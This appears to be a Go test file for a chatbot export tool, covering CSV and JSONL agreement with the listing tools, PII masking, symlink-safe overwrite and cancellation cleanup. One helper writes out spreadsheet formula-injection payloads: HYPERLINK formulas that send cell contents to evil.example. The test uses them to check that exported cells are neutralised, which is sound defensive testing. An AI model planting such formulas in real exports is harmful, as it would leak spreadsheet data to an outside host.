package exports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"chatbot-mcp/client"
	"chatbot-mcp/client/sandbox"
	"chatbot-mcp/internal/app"
	"chatbot-mcp/internal/config"
	"chatbot-mcp/internal/secret"
	"chatbot-mcp/internal/visitor"
	"chatbot-mcp/schemas"

	"github.com/stretchr/testify/require"
)

var noon = time.Date(2026, 11, 20, 11, 0, 0, 0, time.UTC)

// program is the program over a platform with these bots.
func program(t *testing.T, policy visitor.Policy, bots ...sandbox.Bot) (*app.Program, config.Config) {
	rome, err := time.LoadLocation("Europe/Rome")
	require.NoError(t, err)
	now := func() time.Time { return noon }
	platform := sandbox.New(sandbox.Options{Now: now, Bots: bots})
	t.Cleanup(func() { _ = platform.Close() })
	c := config.Config{Default: bots[0].Name, Zone: rome, PII: policy, Results: "both", ExportDir: filepath.Join(t.TempDir(), "exports")}
	for _, b := range bots {
		key, err := secret.New(b.Key)
		require.NoError(t, err)
		c.Bots = append(c.Bots, config.Bot{Name: b.Name, SerialNumber: b.SerialNumber, Host: &url.URL{Scheme: "http", Host: "localhost"}, Key: key})
	}
	p, err := app.New(c, app.Options{Now: now, Testing: app.Testing{
		Client:  func(_ string, o *client.Options) { o.DialContext, o.RetryBase = platform.Dial, time.Millisecond },
		TempDir: t.TempDir(),
	}})
	require.NoError(t, err)
	t.Cleanup(p.Close)
	return p, c
}

func silent(string) {}

// exported is what the command writes to standard output.
func exported(t *testing.T, p *app.Program, r app.Export) string {
	t.Helper()
	var out bytes.Buffer
	r.Stdout = &out
	e, err := p.Export(t.Context(), r, silent)
	require.NoError(t, err)
	require.Equal(t, int64(out.Len()), e.Bytes)
	return out.String()
}

func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	return rows
}

func call[R any](t *testing.T, p *app.Program, tool, args string) (r R) {
	t.Helper()
	got, err := p.Call(t.Context(), tool, json.RawMessage(args))
	require.NoError(t, err)
	require.False(t, got.IsError, got.Text)
	require.NoError(t, json.Unmarshal(got.Structured, &r))
	return r
}

// TestExportsAgreeWithTheTools: an export has the records that list_leads and
// get_chat_history have, of one chatbot and of all.
func TestExportsAgreeWithTheTools(t *testing.T) {
	p, _ := program(t, visitor.Full, sandbox.Demo(noon)...)
	for _, bot := range []string{"shop", "bottega", "all"} {
		rows := readCSV(t, exported(t, p, app.Export{What: "leads", Chatbot: bot, Period: "last_90_days"}))[1:]
		asked := `{"chatbot":"` + bot + `","period":"last_90_days","sort":"oldest","limit":100,"response_format":"detailed"}`
		var want []schemas.Lead
		page := call[schemas.Leads](t, p, "list_leads", asked)
		for total := page.Totals.Matching; ; page = call[schemas.Leads](t, p, "list_leads", `{"chatbot":"`+bot+`","limit":100,"response_format":"detailed","cursor":"`+page.NextCursor+`"}`) {
			want = append(want, page.Leads...)
			if page.NextCursor == "" {
				require.Len(t, rows, total)
				break
			}
		}
		require.Len(t, want, len(rows))
		var got, listed []string
		for i, row := range rows {
			got = append(got, strings.Join(row[1:], "|"))
			l := want[i]
			listed = append(listed, strings.Join([]string{l.CreatedAt.Format(time.DateTime), l.Type.String(), l.Name.String(), l.Email.String(),
				safe(l.Phone.String()), safe(l.Message.String()), safe(l.Wanted.String()), l.WantedSource, l.Page.String(), strconv.FormatInt(l.SessionID, 10), strconv.FormatInt(*l.Count, 10)}, "|"))
		}
		require.ElementsMatch(t, listed, got)
	}
	history := call[schemas.ChatHistory](t, p, "get_chat_history", `{"period":"last_90_days"}`)
	messages := readCSV(t, exported(t, p, app.Export{What: "conversations", Period: "last_90_days"}))[1:]
	conversations := map[string]bool{}
	written := 0
	for _, row := range messages {
		conversations[row[1]] = true
		if row[4] != "" {
			written++
		}
	}
	require.Len(t, conversations, history.Totals.Conversations)
	require.Equal(t, history.Totals.Messages, written)
	lines := strings.Split(strings.TrimSpace(exported(t, p, app.Export{What: "conversations", Period: "last_90_days", Format: "jsonl"})), "\n")
	require.Len(t, lines, history.Totals.Conversations)
}

// safe is a text of the demo as CSV has it.
func safe(text string) string {
	if strings.HasPrefix(text, "+") || strings.HasPrefix(text, "-") {
		return "'" + text
	}
	return text
}

// hostileBot has leads and messages that attack a spreadsheet.
func hostileBot() sandbox.Bot {
	bot := sandbox.Bot{Name: "=shop", Key: "a-secret-key", SerialNumber: "serial"}
	for k, sign := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " ="} {
		attack := sign + `HYPERLINK("http://evil.example?x="&A1,"click")`
		at := noon.Add(-time.Duration(k+1) * time.Hour)
		bot.Leads = append(bot.Leads, sandbox.Lead{Type: attack, Name: attack, Email: attack, PhoneNumber: attack, Content: attack, URI: attack, CreateTime: at, SessionID: int64(k + 1), Count: -5})
		bot.Conversations = append(bot.Conversations, sandbox.Conversation{SessionID: int64(k + 1), CreateTime: at, URI: attack, Messages: []sandbox.Message{{Type: attack, Content: attack}}})
	}
	return bot
}

// TestNoCellIsAFormula: whatever visitors write, no cell of a CSV file begins like a formula
// (C5, docs/security.md).
func TestNoCellIsAFormula(t *testing.T) {
	p, _ := program(t, visitor.Full, hostileBot())
	for _, what := range []string{"leads", "conversations"} {
		rows := readCSV(t, exported(t, p, app.Export{What: what}))
		require.Len(t, rows, 10)
		for _, row := range rows {
			for _, cell := range row {
				require.False(t, strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝"), "%q is a formula", cell)
			}
		}
	}
}

// TestMaskedExports: what --pii mask hides is in no export, and with none there is none.
func TestMaskedExports(t *testing.T) {
	lead := sandbox.Lead{Type: "Lead", Name: "Zzyzx Qwfpgj", Email: "zqwfp@example.com", PhoneNumber: "+39 333 555 0187",
		Content: "write to zqwfp@example.com or +39 333 555 0187", URI: "https://shop.example/?mail=zqwfp@example.com", CreateTime: noon.Add(-time.Hour), SessionID: 1}
	bot := sandbox.Bot{Name: "shop", Key: "a-secret-key", SerialNumber: "serial", Leads: []sandbox.Lead{lead}, Conversations: []sandbox.Conversation{{
		SessionID: 1, CreateTime: lead.CreateTime, URI: lead.URI, Messages: []sandbox.Message{{Type: "User", Content: lead.Content}}}}}
	p, _ := program(t, visitor.Mask, bot)
	for _, r := range []app.Export{{What: "leads"}, {What: "leads", Format: "jsonl"}, {What: "conversations"}, {What: "conversations", Format: "jsonl"}} {
		text := exported(t, p, r)
		for _, hidden := range []string{"Zzyzx", "Qwfpgj", "zqwfp", "555 01"} {
			require.NotContains(t, text, hidden)
		}
	}
	p, _ = program(t, visitor.None, bot)
	var out bytes.Buffer
	_, err := p.Export(t.Context(), app.Export{What: "leads", Stdout: &out}, silent)
	require.ErrorContains(t, err, "--pii none")
	require.Empty(t, out.String())
	_, err = p.Call(t.Context(), "export_leads", json.RawMessage(`{}`))
	require.Error(t, err)
}

// TestForceReplacesTheNameAlone: --force replaces a file or a link, not what the link leads to.
func TestForceReplacesTheNameAlone(t *testing.T) {
	p, _ := program(t, visitor.Full, sandbox.Demo(noon)...)
	dir := t.TempDir()
	target, link := filepath.Join(dir, "target"), filepath.Join(dir, "link.csv")
	require.NoError(t, os.WriteFile(target, []byte("mine"), 0o600))
	if os.Symlink(target, link) != nil {
		t.Skip("this user may not make links")
	}
	_, err := p.Export(t.Context(), app.Export{What: "leads", File: link}, silent)
	require.ErrorContains(t, err, "is there already")
	_, err = p.Export(t.Context(), app.Export{What: "leads", File: link, Replace: true}, silent)
	require.NoError(t, err)
	text, err := os.ReadFile(target)
	require.NoError(t, err)
	require.Equal(t, "mine", string(text))
	info, err := os.Lstat(link)
	require.NoError(t, err)
	require.True(t, info.Mode().IsRegular())
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.Len(t, entries, 2)
}

// TestACancelledExportLeavesNoFile: cancelled while it writes, the command and the tool leave
// their folder as it was.
func TestACancelledExportLeavesNoFile(t *testing.T) {
	bot := sandbox.Bot{Name: "shop", Key: "a-secret-key", SerialNumber: "serial"}
	for k := range 3000 {
		bot.Leads = append(bot.Leads, sandbox.Lead{Type: "Lead", Name: "Anna", CreateTime: noon.Add(-time.Duration(k) * time.Minute), SessionID: int64(k + 1)})
	}
	p, _ := program(t, visitor.Full, bot)
	dir := t.TempDir()
	ctx, cancel := context.WithCancel(t.Context())
	_, err := p.Export(ctx, app.Export{What: "leads", File: filepath.Join(dir, "a.xlsx")}, func(doing string) {
		if strings.Contains(doing, "2000 of 3000 records written") {
			entries, _ := os.ReadDir(dir)
			require.Len(t, entries, 1, "a draft")
			cancel()
		}
	})
	require.ErrorContains(t, err, "cancelled: ")
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.Empty(t, entries)
}
